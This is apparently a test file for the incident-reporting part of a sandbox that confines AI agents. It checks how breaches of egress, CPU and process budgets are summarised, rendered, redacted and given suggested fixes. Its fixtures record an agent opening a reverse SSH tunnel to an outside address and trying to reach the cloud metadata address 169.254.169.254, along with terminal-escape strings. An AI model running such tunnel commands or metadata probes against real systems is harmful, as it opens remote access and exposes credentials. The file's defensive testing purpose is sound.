import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Incident } from '../api/service.ts';
import { REASONS } from '../core/outcome.ts';
import type { Breach, Denial } from '../core/outcome.ts';
import { parseRule } from '../profile/rules.ts';
import { allowLines } from './cure.ts';
import { severityOf, summaryOf } from './incident.ts';
import { incidentNotice } from './notice.ts';
import { profileAmount } from './measure.ts';
import { renderIncident, renderIncidentList, summaryOfIncident } from './render.ts';
import {
  allowedSite,
  cpuBreach,
  endedState,
  incidentOf,
  nameDenial,
  spec,
  sshBreach,
  sshDenial,
  TRACE,
  usage,
} from './testing.ts';

describe('buildIncident', () => {
  test('holds everything that an incident has to tell', () => {
    expect(incidentOf(sshBreach)).toEqual({
      id: 'i0123456789ab',
      host: 'host-1',
      version: '0.1.0',
      subject: {
        profile: 'rome',
        runId: 'r0123456789ab',
        profileDigest: spec.profileDigest,
        command: ['python3', '/agent/main.py', '--api-key=***'],
        imageDigest: `sha256:${'2'.repeat(64)}`,
        owner: 'research@example.com',
        labels: { team: 'red' },
        launchedBy: { uid: 1_000, gid: 1_000, pid: 77 },
        traceparent: TRACE,
      },
      what: {
        reason: 'budget.denials',
        rule: 'budget.denials',
        summary: 'rome tried to reach 203.0.113.10:22/tcp, which its profile does not allow, and was killed.',
        explanation:
          'egress decided: 203.0.113.10:22/tcp is not in egress.allow. It was not let through; port 22 is the usual one ' +
          'of SSH. Refused attempts are counted against `budget.denials`; crossing it ends the run.',
        severity: 'high',
        tags: ['ATLAS AML.T0072 Reverse Shell', 'OWASP ASI10 Rogue Agents'],
      },
      evidence: {
        breach: sshBreach,
        alsoBreached: [],
        process: {
          pid: 42,
          executable: '/usr/bin/ssh',
          argv: ['ssh', '-N', '-R', '2222:127.0.0.1:22', 'x@203.0.113.10'],
          argvSource: { kind: 'read', at: '2026-10-05T08:00:05.000Z' },
          parents: ['python3', 'init'],
          cpuMs: 12,
        },
        usage,
        usageBefore: usage,
        bounds: [],
        lastDenials: [sshDenial],
        lastAllowed: [allowedSite],
        topProcesses: [],
        curve: [
          { wallMs: 1_000, cpuMs: 200, memoryBytes: 8 * 2 ** 20, pids: 2, egressBytes: 0 },
          { wallMs: 5_300, cpuMs: 1_250, memoryBytes: 16 * 2 ** 20, pids: 4, egressBytes: 2_048 },
        ],
        logLines: [],
      },
      action: { asked: 'kill', taken: 'kill', signal: 'SIGKILL', survivors: 0 },
      times: {
        crossedAt: null,
        detectedAt: '2026-10-05T08:00:05.200Z',
        signalledAt: '2026-10-05T08:00:05.200Z',
        emptyAt: '2026-10-05T08:00:05.204Z',
        detectedToEmptyMs: 4.3,
      },
      context: {
        earlierIncidents: 2,
        last: { id: 'iaaaaaaaaaaaa', at: '2026-10-04T07:00:00.000Z' },
        quarantined: true,
        closed: null,
      },
      trust: {
        fromSeq: 10,
        toSeq: 17,
        hash: 'ab'.repeat(32),
        checkpoint: { seq: 12, note: 'ringfence ledger\n12\n' },
      },
      cure:
        'add under `egress.allow`: - 203.0.113.10/32:22\n' +
        'or let it be refused more often before it is ended: `budget.denials` from 0 to 10',
    });
  });

  test('says when processes are left, and keeps the other breaches', () => {
    const state = { ...endedState(sshBreach, { alsoBreached: [cpuBreach] }), survivors: 2 };
    const incident = incidentOf(sshBreach, { state });
    expect(incident.action).toMatchObject({ taken: 'kill, not complete', survivors: 2 });
    expect(incident.evidence.alsoBreached).toEqual([cpuBreach]);
    expect(renderIncident(incident)).toMatch(/2 processes still there/);
  });

  test('is made even of an end without a breach or times', () => {
    const state = { ...endedState(sshBreach), startedAt: null, end: null };
    expect(incidentOf(sshBreach, { state })).toMatchObject({
      what: { reason: 'killed' },
      times: { signalledAt: null, emptyAt: null, detectedToEmptyMs: null },
    });
  });

  test('shows nothing of an agent unbounded, unprintable or secret', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 2_000 }),
      fc.constant('\u001b[2J\n\u202e'.repeat(99)),
    );
    fc.assert(
      fc.property(hostile, (text) => {
        const denial: Denial = { ...sshDenial, destination: text, protocol: text, rule: text, explanation: text };
        const state = {
          ...endedState({ ...sshBreach, denial }),
          lastDenials: Array.from({ length: 20 }, () => denial),
        };
        const process = {
          pid: 1,
          executable: text,
          argv: Array.from({ length: 500 }, () => text),
          argvSource: null,
          parents: [text],
          cpuMs: 0,
        };
        const incident = incidentOf(sshBreach, { state, process, labels: { [text]: text }, topProcesses: [process] });
        const shown = renderIncident(incident) + renderIncidentList([summaryOfIncident(incident)]);
        // oxlint-disable-next-line no-control-regex -- the control characters are what is looked for
        expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u2028\u202e]/);
        expect(shown.split('\n').length).toBeLessThan(400);
        expect(incidentNotice(incident).body.length).toBeLessThan(40_000);
      }),
      { numRuns: 50 },
    );
    const process = {
      pid: 1,
      executable: 'x',
      argv: ['x', '--token', 'hunter2'],
      argvSource: null,
      parents: ['x -phunter2'],
      cpuMs: 0,
    };
    expect(JSON.stringify(incidentOf(sshBreach, { process, topProcesses: [process] }))).not.toMatch(
      /--token.{1,4}hunter2/,
    );
  });
});

describe('sentences', () => {
  const bytes = { unit: 'bytes', measured: 300 * 2 ** 20, limit: 200 * 2 ** 20, denial: null };
  type Case = readonly [breach: Partial<Breach> & Pick<Breach, 'reason'>, summary: string, severity: string];
  const cases: readonly Case[] = [
    [{ ...cpuBreach }, 'rome used 3.02 s of CPU time, its budget is 3 s, and was stopped.', 'medium'],
    [
      { reason: 'budget.wall', measured: 60_000, limit: 60_000, unit: 'ms', denial: null },
      'rome was still running after its 1m 00s and was killed.',
      'low',
    ],
    [{ reason: 'budget.egress', ...bytes }, 'rome sent 300 MiB, its budget is 200 MiB, and was killed.', 'high'],
    [{ reason: 'oom', ...bytes }, 'rome needed more memory than its 200 MiB, and the kernel ended it.', 'low'],
    [
      { reason: 'limit.pids', measured: 128, limit: 128, unit: 'processes', denial: null },
      'rome tried to have more than 128 processes at once, and ended.',
      'medium',
    ],
    [
      { reason: 'budget.denials', measured: 21, limit: 20, denial: nameDenial },
      'rome made 21 refused attempts to leave its boundary, 20 allowed, the last to the name pool.example.test, and was killed.',
      'high',
    ],
    [
      { reason: 'egress.forbidden', denial: { ...sshDenial, destination: '169.254.169.254', port: 80 } },
      'rome tried to reach 169.254.169.254:80/tcp, which its profile does not allow, and was killed.',
      'critical',
    ],
    [
      { reason: 'enforcement.mismatch', rule: 'limits.pids', denial: null },
      'rome ran with limits.pids not as its profile says, and was killed.',
      'critical',
    ],
  ];
  for (const [change, summary, severity] of cases) {
    test(`says: ${summary}`, () => {
      const breach = { ...sshBreach, ...change };
      expect([summaryOf('rome', breach), severityOf(breach, [])]).toEqual([summary, severity]);
    });
  }

  test('every reason has a sentence and something to change', () => {
    for (const reason of REASONS) {
      const incident = incidentOf({ ...sshBreach, reason });
      expect(incident.what.summary).toMatch(/^rome .*\.$/);
      expect(incident.cure).not.toBe('');
    }
  });

  test('the gravest of several breaches decides', () => {
    expect(severityOf(cpuBreach, [sshBreach])).toBe('high');
  });
});

describe('the cure', () => {
  type Case = readonly [breach: Breach, cure: RegExp];
  const bytes = { measured: 210 * 2 ** 20, limit: 200 * 2 ** 20, unit: 'bytes', denial: null };
  const cases: readonly Case[] = [
    [cpuBreach, /^raise `budget.cpu` from 3s to .* example 7s \(it had used 3\.02 s\)$/],
    [{ ...cpuBreach, measured: 100, limit: 100 }, /from 100ms to .* example 1s/],
    [{ ...sshBreach, ...bytes, reason: 'budget.egress', rule: 'budget.egress' }, /from 200MiB to .* example 420MiB/],
    [
      {
        ...sshBreach,
        reason: 'limit.pids',
        rule: 'limits.pids',
        measured: 128,
        limit: 128,
        unit: 'processes',
        denial: null,
      },
      /`limits.pids` from 128 to .* example 256/,
    ],
    [{ ...sshBreach, reason: 'enforcement.lost', denial: null }, /ringfence doctor/],
  ];
  for (const [breach, cure] of cases) {
    test(`of ${breach.rule} (${breach.reason}) at ${breach.limit}`, () => {
      expect(incidentOf(breach).cure).toMatch(cure);
    });
  }

  test('writes lines that the parser of profiles takes, and no others', () => {
    const lines = allowLines([
      sshDenial,
      sshDenial,
      nameDenial,
      { ...sshDenial, destination: '10.0.0.5', port: 53, protocol: 'udp' },
      { ...sshDenial, destination: '169.254.169.254', port: 80 },
      { ...sshDenial, destination: '198.51.100.7', port: null, protocol: 'icmp' },
      { ...nameDenial, destination: 'com' },
      { ...nameDenial, destination: '\\u{1b}[2J' },
    ]);
    const rules = lines.flatMap((line) => /: - (.*)$/.exec(line)?.[1] ?? []);
    expect(rules).toEqual(['203.0.113.10/32:22', 'pool.example.test', '10.0.0.5/32:53/udp']);
    expect(rules.map((rule) => parseRule(rule).ok)).toEqual([true, true, true]);
    expect(lines.slice(3)).toEqual([
      expect.stringMatching(/^no profile can allow 169\.254\.169\.254: it must not reach 169\.254\.0\.0\/16/),
      expect.stringMatching(/^no profile can allow 198\.51\.100\.7: a profile opens names, and TCP and UDP ports/),
      expect.stringMatching(/^no profile can allow com: it must/),
      expect.stringMatching(/^no profile can allow \\u\{1b\}\[2J: it must/),
    ]);
  });

  test('does not list a whole network', () => {
    const sweep = Array.from({ length: 20 }, (_, index) => ({ ...sshDenial, destination: `203.0.113.${index + 1}` }));
    expect(allowLines(sweep)).toHaveLength(6);
    expect(allowLines(sweep).at(-1)).toBe('and 15 more destinations: `ringfence inspect RUN` lists them');
  });

  test('writes amounts that read back as themselves', () => {
    expect(profileAmount(90_000, 'ms')).toBe('90s');
    expect(profileAmount(7_200_000, 'ms')).toBe('2h');
    expect(profileAmount(1_500, 'ms')).toBe('1500ms');
    expect(profileAmount(1_536, 'bytes')).toBe('1536B');
    expect(profileAmount(1_500, 'millicores')).toBe('1.5');
  });
});

describe('renderIncident', () => {
  test('fits one screen, aligned, without colours', () => {
    expect(renderIncident(incidentOf(sshBreach)).split('\n')).toEqual([
      'Incident i0123456789ab  HIGH  2026-10-05T08:00:05.200Z  host-1',
      'rome tried to reach 203.0.113.10:22/tcp, which its profile does not allow, and was killed.',
      '',
      'agent     rome, run r0123456789ab, owner research@example.com',
      `trace     ${TRACE}`,
      `profile   ${spec.profileDigest}`,
      `image     sha256:${'2'.repeat(64)}`,
      'command   python3 /agent/main.py --api-key=***',
      'labels    team=red',
      'rule      budget.denials',
      'why       egress decided: 203.0.113.10:22/tcp is not in egress.allow. It was not let through; port 22 is the',
      '          usual one of SSH. Refused attempts are counted against `budget.denials`; crossing it ends the run.',
      'known as  ATLAS AML.T0072 Reverse Shell, OWASP ASI10 Rogue Agents',
      'measured  1 denial, 0 denials allowed',
      'process   42 /usr/bin/ssh: ssh -N -R 2222:127.0.0.1:22 x@203.0.113.10 (12 ms of CPU)',
      '          started by python3 ← init',
      'refused   203.0.113.10:22/tcp, by egress',
      'allowed   192.0.2.40:443/tcp (api.example.test), 2 KiB out',
      'used      5.3 s wall, 1.25 s CPU, peak 24 MiB and 4 processes, 2 KiB out, 40 KiB in, 1 refused',
      'action    kill with SIGKILL, 4.3 ms from detection to the end, no process left',
      'earlier   2 incidents of this agent before, the last iaaaaaaaaaaaa at 2026-10-04T07:00:00.000Z',
      'now       open, in quarantine until `ringfence release rome`',
      `ledger    records 10 to 17, ${'ab'.repeat(32)}; signed up to 12`,
      'cure      if the agent was right:',
      '          add under `egress.allow`: - 203.0.113.10/32:22',
      '          or let it be refused more often before it is ended: `budget.denials` from 0 to 10',
      '',
    ]);
  });

  test('draws how it came to its end, and shows the output that was asked for', () => {
    const curve = [0, 1, 2, 3].map((second) => ({
      wallMs: second * 1_000,
      cpuMs: second < 2 ? 0 : (second - 1) * 500,
      memoryBytes: second * 2 ** 20,
      pids: 1,
      egressBytes: 0,
    }));
    const text = renderIncident(incidentOf(sshBreach, { curve, logLines: ['about to call\u001b[31m home'] }));
    expect(text).toContain('curve     cpu     ▁██  up to 0.5 cores\n          memory  ▃▆█  up to 3 MiB');
    expect(text).toContain('output    about to call\\u{1b}[31m home');
  });

  test('says whether it is over, and how', () => {
    const incident = incidentOf(sshBreach);
    const closedAs = (closed: Incident['context']['closed']): string =>
      renderIncident({ ...incident, context: { ...incident.context, quarantined: false, closed } });
    const at = '2026-10-05T09:00:00.000Z';
    expect(closedAs(null)).toContain('now       open; a new run may start, and ends it if it ends well');
    expect(closedAs({ at, how: 'released', by: 'user 0' })).toContain(`now       over since ${at}, released by user 0`);
    expect(closedAs({ at, how: 'clean-run', by: null })).toContain(`over since ${at}, when a run of this agent ended`);
  });

  test('knows when a clock was crossed', () => {
    const breach = { ...cpuBreach, reason: 'budget.wall' as const, rule: 'budget.wall', measured: 5_010, limit: 5_000 };
    const { times } = incidentOf(breach);
    expect(times.crossedAt).toBe('2026-10-05T08:00:05.000Z');
  });

  test('has colours only when asked', () => {
    expect(renderIncident(incidentOf(sshBreach), { colour: true })).toContain('\u001b[31mHIGH\u001b[0m');
  });
});

test('the notice carries the whole incident, for the profile, under its id', () => {
  const incident = incidentOf(sshBreach);
  const notice = incidentNotice(incident);
  expect({ ...notice, body: JSON.parse(notice.body) as unknown }).toEqual({
    id: 'i0123456789ab',
    type: 'incident.opened',
    subject: 'rome',
    severity: incident.what.severity,
    key: 'i0123456789ab',
    summary: incident.what.summary,
    facts: expect.arrayContaining([
      { name: 'rule', value: 'budget.denials' },
      { name: 'look', value: 'ringfence incident i0123456789ab' },
    ]),
    body: { type: 'incident.opened', timestamp: incident.times.detectedAt, data: incident },
  });
  expect(Buffer.byteLength(notice.body)).toBeLessThan(20_000);
});
